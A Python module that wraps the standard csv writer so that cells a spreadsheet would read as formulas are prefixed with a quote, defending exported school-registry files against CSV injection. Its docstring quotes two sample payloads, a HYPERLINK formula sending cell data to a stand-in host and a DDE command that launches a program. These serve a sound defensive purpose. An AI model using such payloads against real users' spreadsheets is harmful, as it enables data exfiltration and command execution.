"""The platform's one CSV writer: the standard library's `csv.writer`, with every text cell that a
spreadsheet would take for a formula neutralised (CSV or "formula" injection, OWASP).

A registry name such as `=HYPERLINK("https://evil.example/?"&A1,"Voir")` or `@SUM(1+1)*cmd|' /C
calc'!A0`, exported to a file that a school head or a collectivité opens in a spreadsheet, would be
run as a formula there: it can send the sheet's data elsewhere or, through DDE, start programs.
OWASP's recommendation, applied to every cell we write:

- a text cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return (or their full-width
  forms `＝ ＋ － ＠`, which some spreadsheets read as the same; leading spaces ignored) is prefixed
  with a single quote `'`, which spreadsheets display as text and do not evaluate;
- the csv module quotes the cell (and doubles its quotes) as needed, so that no separator inside a
  value can start a new cell.

Numbers stay numbers: `int`, `float` and `Decimal` cells are written as they are (floats in their
shortest exact form, as `csv` does), and so are text cells that are plain signed numbers (`-3`,
`+33 6 12 34 56 78`, `-1.68`: digits, spaces, dots and commas after one sign). A plain number can
neither call a function nor refer to a cell; prefixing it would break the number columns of
OneRoster and of the open-data files. The price of the rule is visible to machine readers: a text
value that really begins with `=` arrives with a leading `'` (docs/security.md).

Use `writer(stream, **csv_options)` wherever the platform writes CSV for people or partners (a
test in tests/security lists the only exemptions: machine-internal streams such as COPY)."""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

FORMULA_TRIGGERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
PLAIN_NUMBER = re.compile(r"[+-]?[0-9][0-9 .,]*")


def neutralise(value: str) -> str:
    """`value`, prefixed with `'` if a spreadsheet would evaluate it as a formula."""
    if not value:
        return value
    stripped = value.lstrip(" ")
    if not stripped or stripped[0] not in FORMULA_TRIGGERS:
        return value
    if PLAIN_NUMBER.fullmatch(stripped):
        return value
    return "'" + value


def cell(value: Any) -> Any:
    """What the writer puts in a cell: "" for None, numbers as they are, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal):
        return value
    return neutralise(str(value))


class SafeWriter:
    """`csv.writer`'s interface (`writerow`, `writerows`, `dialect`), every cell through `cell`."""

    def __init__(self, stream, **options):
        self._writer = csv.writer(stream, **options)

    @property
    def dialect(self):
        return self._writer.dialect

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream, **options) -> SafeWriter:
    """A CSV writer on `stream` (the options of `csv.writer`: delimiter, lineterminator…)."""
    return SafeWriter(stream, **options)
